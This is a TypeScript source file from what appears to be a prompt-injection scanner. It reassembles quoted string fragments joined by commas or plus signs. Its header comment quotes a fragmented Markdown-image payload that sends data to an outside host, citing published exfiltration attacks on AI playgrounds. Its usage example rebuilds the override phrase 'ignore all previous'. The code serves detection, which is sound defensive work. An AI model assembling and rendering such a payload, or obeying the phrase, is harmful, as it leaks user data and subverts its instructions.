/**
 * Strings cut into quoted pieces for the model to put back together: `"![t","](htt","ps",":/","/","wu",
 * "zzi",".","net/l.png?q="[INFO]",")"` (garak's StringAssemblyDataExfil, ColabAIDataLeakage and the
 * concatenation prompts of its Markdown-exfiltration probes, after Rehberger's attacks on Azure OpenAI's
 * playground and Google Colab). A run of 3 or more separators (`","`, `", "`, `"+"`, `" + "`), each piece
 * between them at most 40 units on one line, is read joined: the separators and the other quotes taken
 * out, with the pieces before the first separator and after the last (back to a quote or the line's start,
 * on to a quote or the line's end, 40 units at most).
 */

/** A separator between two quoted pieces. @internal */
export const CONCAT_SEPARATOR: RegExp = /" ?[,+] ?"/g;
/** `CONCAT_SEPARATOR` for `replace` (which resets a global regex's `lastIndex`: the scan's own would loop). */
const SEPARATORS = /" ?[,+] ?"/g;
/** Longest piece between two separators, and read before the first and after the last. */
const MAX_PIECE = 40;
/** Fewest separators in a run. */
const MIN_SEPARATORS = 3;

/** What a joined run is handed to: its span and text (undefined: not text). */
export type TakeJoined = (encoding: 'concatenated', start: number, end: number, decoded: string | undefined) => void;

/**
 * Read each run of quoted pieces of `text` joined, and hand it to `take` (its span: from the first piece to
 * the last). `budget` is asked for each run's length first, and a refusal ends the scan.
 *
 * @example
 * ```ts
 * scanConcatenated('"ign","ore a","ll prev","ious"', () => true, (enc, s, e, text) => {}); // text: 'ignore all previous'
 * ```
 */
export function scanConcatenated(text: string, budget: (units: number) => boolean, take: TakeJoined): void {
  const re = CONCAT_SEPARATOR;
  re.lastIndex = 0;
  let first = -1; // start of the run's first separator
  let last = -1; // end of its last separator
  let count = 0;
  let stopped = false;
  const flush = () => {
    if (count >= MIN_SEPARATORS) {
      const start = pieceStart(text, first);
      const end = pieceEnd(text, last);
      if (!budget(end - start)) stopped = true;
      else take('concatenated', start, end, joined(text.slice(start, end)));
    }
    count = 0;
  };
  for (let m = re.exec(text); m !== null && !stopped; m = re.exec(text)) {
    const at = m.index;
    if (count > 0 && !(at - last <= MAX_PIECE && !lineBreakIn(text, last, at))) flush();
    if (stopped) break;
    if (count === 0) first = at;
    last = at + m[0].length;
    count++;
  }
  if (!stopped) flush();
  re.lastIndex = 0;
}

/** The run's text read joined: the separators and the other quotes taken out. */
function joined(run: string): string {
  return run.replace(SEPARATORS, '').replaceAll('"', '');
}

/** Whether `[from, to)` of `text` has a line break. */
function lineBreakIn(text: string, from: number, to: number): boolean {
  for (let i = from; i < to; i++) {
    const c = text.charCodeAt(i);
    if (c === 10 || c === 13) return true;
  }
  return false;
}

/** Where the piece before the separator at `at` starts: after a quote, at the line's start, or 40 units back. */
function pieceStart(text: string, at: number): number {
  let i = at;
  while (i > 0 && at - i < MAX_PIECE) {
    const c = text.charCodeAt(i - 1);
    if (c === 34) return i - 1;
    if (c === 10 || c === 13) return i;
    i--;
  }
  return i;
}

/** Where the piece after the separator ending at `at` ends: after a quote, at the line's end, or 40 units on. */
function pieceEnd(text: string, at: number): number {
  let i = at;
  while (i < text.length && i - at < MAX_PIECE) {
    const c = text.charCodeAt(i);
    if (c === 34) return i + 1;
    if (c === 10 || c === 13) return i;
    i++;
  }
  return i;
}
